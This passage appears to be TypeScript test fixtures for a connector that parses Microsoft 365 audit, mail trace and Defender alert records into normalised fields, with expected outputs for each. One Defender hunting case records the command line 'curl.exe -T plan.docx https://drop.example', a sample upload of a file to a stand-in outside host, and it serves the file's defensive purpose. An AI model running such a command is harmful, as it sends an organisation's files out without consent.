    source: SCHEMA,
    record: audit('SecurityComplianceCenter', 'AlertTriggered', {
      RecordType: 40,
      UserId: 'SecurityComplianceAlerts',
      Name: 'Files leave by browser',
      Severity: 'Low',
      Data: JSON.stringify({
        f3u: 'mara.lind@harbor.example',
        eop: 'FileUploadedToCloud',
        ofph: 'C:\\data\\list.csv',
        tdmn: 'drop.example',
        dn: 'hb-lt-017',
        efs: '900',
      }),
    }),
    expect: {
      action: 'Upload',
      vendorRule: 'Files leave by browser',
      'actor.email': 'mara.lind@harbor.example',
      'object.name': 'list.csv',
      'object.sizeBytes': 900,
      'destination.name': 'drop.example',
    },
  },
  {
    operation: 'AlertEntityGenerated',
    source: SCHEMA,
    record: audit('SecurityComplianceCenter', 'AlertEntityGenerated', {
      ObjectId: 'https://lure.example/',
      Data: { trc: 'mara.lind@harbor.example', tsd: 'x@lure.example', ms: 'Hi' },
    }),
    expect: {
      'object.url': 'https://lure.example/',
      'mail.from': 'x@lure.example',
      'mail.to': ['mara.lind@harbor.example'],
    },
  },
  {
    operation: 'TIMailData',
    source: SCHEMA,
    record: audit('ThreatIntelligence', 'TIMailData', {
      P2Sender: 'x@lure.example',
      Recipients: ['mara.lind@harbor.example'],
      Subject: 'Hi',
      InternetMessageId: '<m6@lure.example>',
      Verdict: 'Phish',
    }),
    expect: {
      'object.kind': 'message',
      'mail.subject': 'Hi',
      'extra.verdict': 'Phish',
      movement: 'none',
    },
  },
  {
    operation: 'AtpDetection',
    source: SCHEMA,
    record: audit('ThreatIntelligence', 'AtpDetection', {
      FileData: { FileName: 'a.exe', FileSize: '12', SHA256: 'AA'.repeat(32), FilePath: SITE_URL },
    }),
    expect: { 'object.name': 'a.exe', 'object.sha256': 'aa'.repeat(32), 'object.sizeBytes': 12 },
  },
];

const OTHER_CASES: readonly ConnectorCase[] = [
  {
    operation: 'CopilotInteraction',
    source: 'Office 365 Management Activity API, Copilot schema',
    record: audit('Copilot', 'CopilotInteraction', {
      CopilotEventData: {
        AppHost: 'Word',
        ThreadId: '19:t',
        AccessedResources: [{ Name: 'Pay.xlsx', SiteUrl: `${SITE_URL}Pay.xlsx`, Id: 'i1' }],
      },
    }),
    expect: {
      action: 'View',
      'object.name': 'Pay.xlsx',
      'destination.name': 'Copilot',
      'extra.copilotIn': 'Word',
    },
  },
  {
    operation: 'UserLoggedIn',
    source: SCHEMA,
    record: audit('AzureActiveDirectory', 'UserLoggedIn', {
      ClientIP: '',
      ActorIpAddress: '2001:db8::7',
      ExtendedProperties: [{ Name: 'UserAgent', Value: 'Mozilla/5.0' }],
      DeviceProperties: [
        { Name: 'Id', Value: 'dev-1' },
        { Name: 'OS', Value: 'Windows 11' },
        { Name: 'IsCompliantAndManaged', Value: 'True' },
      ],
    }),
    expect: {
      source: 'Microsoft 365',
      action: null,
      'network.sourceIp': '2001:db8::7',
      'network.userAgent': 'Mozilla/5.0',
      'device.id': 'dev-1',
      'device.managed': 'yes',
    },
  },
  {
    operation: 'UserLoginFailed',
    source: SCHEMA,
    record: audit('AzureActiveDirectory', 'UserLoginFailed', { LogonError: 'InvalidPassword' }),
    expect: { outcome: 'failure', 'extra.logonError': 'InvalidPassword' },
  },
  {
    operation: 'Add member to group.',
    source: SCHEMA,
    record: audit('AzureActiveDirectory', 'Add member to group.', {
      Target: [{ ID: 'ole.berg@harbor.example', Type: 5 }],
      ModifiedProperties: [{ Name: 'Group.DisplayName', NewValue: '"Board"', OldValue: '' }],
    }),
    expect: { targetUser: 'ole.berg@harbor.example', targetGroup: 'Board' },
  },
  {
    operation: 'ExportReport',
    source: 'Audit log activities, Power BI activities',
    record: audit('PowerBI', 'ExportReport', { ReportName: 'Sales', WorkSpaceName: 'Board' }),
    expect: { action: 'Download', 'object.name': 'Sales', 'extra.workspace': 'Board' },
  },
  {
    operation: 'EditForm',
    source: 'Audit log activities, Microsoft Forms activities',
    record: audit('MicrosoftForms', 'EditForm', { FormName: 'Survey' }),
    expect: { action: null, 'object.name': 'Survey' },
  },
  {
    operation: 'FileDownloaded (lower-cased export)',
    source: FILE,
    record: {
      creationtime: '2026-02-03 08:15:30',
      operation: 'FileDownloaded',
      workload: 'SharePoint',
      userid: 'mara.lind@harbor.example',
      sourcefilename: 'a.txt',
    },
    expect: { occurredAt: OCCURRED_AT, action: 'Download', 'object.name': 'a.txt' },
  },
  {
    operation: 'FileDownloaded (audit search)',
    source: 'Search the audit log, exported records',
    record: { CreationDate: '2026-02-03', AuditData: JSON.stringify(file('FileDownloaded')) },
    expect: { occurredAt: OCCURRED_AT, action: 'Download', source: 'SharePoint' },
  },
  {
    operation: 'MailItemsAccessed (OfficeActivity)',
    source: 'Azure Monitor reference, OfficeActivity table',
    record: {
      TimeGenerated: '2026-02-03T08:15:30Z',
      Operation: 'MailItemsAccessed',
      OfficeWorkload: 'Exchange',
      UserId: 'mara.lind@harbor.example',
      UserType: 'Regular',
      Client_IPAddress: '203.0.113.40',
      Folders: '[{"Path":"\\\\Inbox","FolderItems":[{"InternetMessageId":"<m9@shop.example>"}]}]',
    },
    expect: {
      source: 'Exchange',
      'network.sourceIp': '203.0.113.40',
      'object.id': '<m9@shop.example>',
    },
  },
  {
    operation: 'New-ComplianceSearch (line with bare quotes)',
    source: SCHEMA,
    record:
      '{"CreationTime":"2026-02-03T08:15:30","Operation":"New-ComplianceSearch","Workload":"Exchange",' +
      '"UserId":"NT AUTHORITY\\SYSTEM","Parameters":"-Name "all mail" -Force "True"","RecordType":18}',
    expect: {
      'actor.kind': 'system',
      'actor.name': 'NT AUTHORITY\\SYSTEM',
      'object.kind': 'setting',
    },
  },
  {
    operation: '(none)',
    source: SCHEMA,
    record: { CreationTime: '2026-02-03T08:15:30', RecordType: 6 },
    expect: { vendorOperation: '6' },
  },
  {
    operation: 'FileAccessed (no time)',
    source: SCHEMA,
    record: { CreationTime: '', Operation: 'FileAccessed', Workload: 'SharePoint' },
    expect: { rejected: 'an audit record has a time' },
  },
];

const TRACE_CASES: readonly ConnectorCase[] = [
  {
    operation: 'Delivered',
    source: TRACE,
    record: TRACE_ROW,
    expect: {
      source: 'Exchange',
      stream: 'message-trace',
      action: 'Send',
      movement: 'send',
      outcome: 'success',
      vendorEventId: 'aa11/buyer@shop.example',
      'actor.email': 'mara.lind@harbor.example',
      destinationUser: 'buyer@shop.example',
      'mail.to': ['buyer@shop.example'],
      'network.sourceDomain': 'harbor.example',
      'network.destinationDomain': 'shop.example',
    },
  },
  {
    operation: 'FilteredAsSpam',
    source: TRACE,
    record: { ...TRACE_ROW, Status: 'FilteredAsSpam', Received: '/Date(1770106530000)/' },
    expect: { outcome: 'failure', occurredAt: OCCURRED_AT },
  },
  {
    operation: 'GettingStatus',
    source: TRACE,
    record: { ...TRACE_ROW, Status: 'GettingStatus', Subject: null },
    expect: { outcome: 'unknown', 'mail.subject': null },
  },
  {
    operation: 'delivered (Graph)',
    source: 'Microsoft Graph, exchangeMessageTrace resource type',
    record: {
      id: 'bb22',
      senderAddress: 'mara.lind@harbor.example',
      recipientAddress: 'buyer@shop.example',
      receivedDateTime: '2026-02-03T08:15:30Z',
      status: 'delivered',
    },
    expect: {
      action: 'Send',
      occurredAt: OCCURRED_AT,
      'recipients.0.address': 'buyer@shop.example',
    },
  },
  {
    operation: 'SEND',
    source: TRACKING,
    record: tracking('SEND', 'mara.lind@harbor.example', 'buyer@shop.example;b@shop.example'),
    expect: {
      stream: 'message-tracking',
      action: 'Send',
      'mail.subject': 'Minutes, final',
      'mail.to': ['buyer@shop.example', 'b@shop.example'],
      'network.sourceIp': '192.0.2.10',
      vendorEventId: 'log-1',
    },
  },
  {
    operation: 'RECEIVE',
    source: TRACKING,
    record: tracking('RECEIVE', 'x@shop.example', 'mara.lind@harbor.example'),
    expect: { action: null, movement: 'none', outcome: 'success' },
  },
  {
    operation: 'FAIL',
    source: TRACKING,
    record: tracking('FAIL', 'mara.lind@harbor.example', 'nobody@shop.example'),
    expect: { outcome: 'failure' },
  },
  {
    operation: '(comment line)',
    source: TRACKING,
    record: '#Fields: date-time,client-ip',
    expect: { skipped: 'a comment line of a log' },
  },
];

const ALERT_CASES: readonly ConnectorCase[] = [
  {
    operation: 'prevented',
    source: GRAPH,
    record: GRAPH_ALERT,
    expect: {
      stream: 'defender-alert',
      vendorOperation: 'prevented',
      vendorSeverity: 'medium',
      vendorRule: 'Unwanted tool was blocked',
      occurredAt: OCCURRED_AT,
      'actor.name': 'mara',
      'actor.email': 'mara.lind@harbor.example',
      'device.hostname': 'hb-lt-017.harbor.example',
      'device.managed': 'yes',
      'object.name': 'tool.exe',
      cloudAccount: TENANT,
    },
  },
  {
    operation: 'prevented (in an incident)',
    source: 'Microsoft Graph security API, incident resource type',
    record: {
      id: '17',
      displayName: 'Tool on one endpoint',
      incidentWebUrl: 'https://security.example/17',
      lastUpdateDateTime: '2026-02-03T08:15:30Z',
      severity: 'low',
      alerts: [GRAPH_ALERT],
    },
    expect: { stream: 'defender-incident', vendorEventId: '17', 'object.name': 'tool.exe' },
  },
  {
    operation: 'SuspiciousLogin',
    source: 'Microsoft Graph security API, legacy alert resource type',
    record: {
      id: 'l1',
      azureTenantId: TENANT,
      category: 'SuspiciousLogin',
      eventDateTime: '2026-02-03T08:15:30Z',
      vendorInformation: { provider: 'IPC' },
      userStates: [{ userPrincipalName: 'mara.lind@harbor.example', logonIp: '203.0.113.40' }],
    },
    expect: { 'actor.email': 'mara.lind@harbor.example', 'network.sourceIp': '203.0.113.40' },
  },
  {
    operation: 'Malware',
    source: 'Defender for Endpoint API, alert resource type',
    record: {
      id: 'e1',
      category: 'Malware',
      severity: 'High',
      alertCreationTime: '2026-02-03T08:15:30Z',
      machineId: 'd0d0d0d0',
      computerDnsName: 'HB-LT-017',
      aadTenantId: TENANT,
      evidence: [{ entityType: 'File', fileName: 'a.exe', filePath: 'C:\\Temp' }],
    },
    expect: { 'device.id': 'd0d0d0d0', 'device.hostname': 'hb-lt-017', 'object.name': 'a.exe' },
  },
  {
    operation: 'Delivered (EmailEvents)',
    source: HUNTING,
    record: hunting('EmailEvents', {
      SenderFromAddress: 'Mara.Lind@harbor.example',
      RecipientEmailAddress: 'buyer@shop.example',
      InternetMessageId: '<m7@mail.harbor.example>',
      Subject: 'Hello',
      DeliveryAction: 'Delivered',
      SenderIPv4: '203.0.113.40',
    }),
    expect: {
      source: 'Exchange',
      action: 'Send',
      movement: 'send',
      occurredAt: OCCURRED_AT,
      'mail.from': 'mara.lind@harbor.example',
      'recipients.0.domain': 'shop.example',
    },
  },
  {
    operation: 'FileDownloaded (CloudAppEvents)',
    source: HUNTING,
    record: hunting('CloudAppEvents', {
      ActionType: 'FileDownloaded',
      AccountDisplayName: 'Mara Lind',
      IPAddress: '203.0.113.40',
      RawEventData: file('FileDownloaded'),
    }),
    expect: {
      source: 'SharePoint',
      stream: 'defender-hunting',
      action: 'Download',
      'object.name': 'Budget 2026.xlsx',
      'actor.name': 'Mara Lind',
    },
  },
  {
    operation: 'AlertEvidence',
    source: HUNTING,
    record: hunting('AlertEvidence', {
      EntityType: 'Process',
      FileName: 'curl.exe',
      ProcessCommandLine: 'curl.exe -T plan.docx https://drop.example',
      Title: 'Upload by command line',
      Severity: 'Medium',
    }),
    expect: {
      vendorOperation: 'AlertEvidence',
      'process.name': 'curl.exe',
      'process.commandLine': 'curl.exe -T plan.docx https://drop.example',
      vendorRule: 'Upload by command line',
    },
  },
];

/** Our own excerpts in the format of Microsoft's documentation, with the expected result. */
export const cases: readonly ConnectorCase[] = [
  ...FILE_CASES,
  ...SHARING_CASES,
  ...MAILBOX_CASES,
  ...COMMAND_CASES,
  ...TEAMS_CASES,
  ...POLICY_CASES,
  ...OTHER_CASES,
  ...TRACE_CASES,
  ...ALERT_CASES,
  ...BUSINESS_CASES,
  ...LIST_CASES,
  ...NAMED_CASES,
];
